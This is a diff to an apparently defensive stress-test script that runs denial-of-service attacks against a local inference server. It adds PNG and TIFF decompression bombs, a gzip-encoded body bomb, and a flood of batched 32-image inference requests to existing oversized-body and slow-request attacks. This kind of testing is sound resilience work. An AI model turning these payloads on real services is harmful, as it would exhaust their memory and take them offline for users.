@@ -10,6 +10,9 @@ memory. Attackers, client and server share the machine.
 
 import argparse
 import contextlib
+import gzip
+import json
+import math
 import multiprocessing
 import socket
 import struct
@@ -25,21 +28,36 @@ def chunk(kind, data):
     return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
 
-def png(width, height, colour=0):
-    """A grey (colour 0) or RGB (2) PNG of zeros, which compresses a thousandfold."""
+def png(width, height, colour=0, texts=0):
+    """A grey (colour 0) or RGB (2) PNG of zeros, which compress a thousandfold, with so many texts of 7.9 MB."""
     row = b"\0" * (1 + width * (3 if colour == 2 else 1))
     deflate = zlib.compressobj(9)
     data = b"".join(deflate.compress(row) for _ in range(height)) + deflate.flush()
     header = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
+    text = chunk(b"zTXt", b"text\0\0" + zlib.compress(bytes(7_900_000), 9)) * texts
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + text + chunk(b"IDAT", data) + chunk(b"IEND", b"")
+
+
+def tiff(tiles):
+    """16384 x 1 grey pixels in so many tiles of 16 MB, all of them the same 16 kB of the file."""
+    data = zlib.compress(bytes(1 << 24), 9)
+    lists = 8 + len(data)
+    tags = [(256, 3, 1, 16 * tiles), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1),
+            (322, 3, 1, 16), (323, 4, 1, 1 << 20), (324, 4, tiles, lists), (325, 4, tiles, lists + 4 * tiles)]
+    offsets, sizes = struct.pack("<I", 8) * tiles, struct.pack("<I", len(data)) * tiles
+    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
+    return (b"II*\0" + struct.pack("<I", lists + 8 * tiles) + data + offsets + sizes + struct.pack("<H", len(tags)) + entries
+            + bytes(4))
 
 
 def connect(port, source, timeout=30.0):
     return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
 
 
-def request(method, target, body=b"", length=None):
+def request(method, target, body=b"", length=None, coding=None):
     head = f"{method} {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
+    if coding:
+        head += f"Content-Encoding: {coding}\r\n"
     return f"{head}Content-Length: {len(body) if length is None else length}\r\n\r\n".encode() + body
 
 
@@ -67,10 +85,10 @@ def attack(port, threads, one):
     time.sleep(3600)
 
 
-def posted(body, target="/predict"):
+def posted(body, target="/predict", coding=None):
     def one(port):
         with connect(port, ATTACKER) as connection:
-            connection.sendall(request("POST", target, body))
+            connection.sendall(request("POST", target, body, coding=coding))
             status_of(connection)
 
     return one
@@ -102,6 +120,22 @@ def never_read(port):
             connection.sendall(b"GET /page/main.js HTTP/1.1\r\nHost: localhost\r\n\r\n")
 
 
+def many_rows(port):
+    """Thirty-two images per request, again and again."""
+    with connect(port, ATTACKER) as connection:
+        connection.sendall(request("GET", "/v2/models/made-up"))
+        answer = b""
+        while piece := connection.recv(65536):
+            answer += piece
+    shape = [32] + json.loads(answer.partition(b"\r\n\r\n")[2])["inputs"][0]["shape"][1:]
+    values = {"name": "input", "datatype": "UINT8", "shape": shape, "data": [0] * math.prod(shape)}
+    wire = request("POST", "/v2/models/made-up/infer", json.dumps({"inputs": [values]}).encode())
+    while True:
+        with connect(port, ATTACKER) as connection:
+            connection.sendall(wire)
+            status_of(connection)
+
+
 def numbers(count):
     return b'{"inputs":[{"name":"input","datatype":"UINT8","shape":[1,1,1,1],"data":[' + b"1," * count + b"1]}]}"
 
@@ -112,6 +146,10 @@ ATTACKS = {
     "images of 16384 x 16384": (4, posted(png(16384, 16384))),
     "images of 50 megapixels": (8, posted(png(7071, 7071, 2))),
     "images of 2 megapixels": (16, posted(png(1600, 1250, 2))),
+    "PNGs with 63 MB of texts": (16, posted(png(28, 28, texts=8))),
+    "TIFFs of 16 GB of tiles": (4, posted(tiff(1024))),
+    "16 MB in 16 kB of gzip": (16, posted(gzip.compress(bytes(16_000_000)), coding="gzip")),
+    "32 images per request": (60, many_rows),
     "JSON of 15 MB": (8, posted(numbers(7_500_000), "/v2/models/made-up/infer")),
     "promised bodies of 16 MB": (64, kept_open(request("POST", "/predict", length=16 << 20))),
     "bodies of 15 of 16 MB": (32, kept_open(request("POST", "/predict", b"x" * (15 << 20), 16 << 20))),
